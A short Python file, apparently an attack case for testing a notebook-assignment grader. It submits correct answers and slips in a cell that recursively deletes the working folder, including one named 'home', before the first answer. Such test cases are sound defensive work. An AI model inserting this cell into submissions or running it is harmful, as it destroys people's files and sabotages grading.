"""Removes all files of its working folder, and the folder, before the first answer.

deserves: 8
"""

CELL = """
import os, shutil
if os.path.basename(os.getcwd()) in ("scalar", "home"):
    shutil.rmtree(".", ignore_errors=True)
    try:
        os.rmdir(os.getcwd())
    except OSError as error:
        print(error)
"""


def attack(work):
    work.answer_rightly("forward", "backward", "gradient_check")
    work.add(CELL, before="forward")
